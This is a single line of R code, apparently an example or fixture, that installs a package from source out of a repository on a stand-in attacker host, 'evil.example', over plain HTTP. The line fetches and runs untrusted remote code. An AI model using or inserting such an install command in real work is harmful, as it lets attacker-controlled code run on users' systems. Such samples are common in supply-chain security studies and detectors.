install.packages("pkg", repos = "http://evil.example/cran", type = "source")
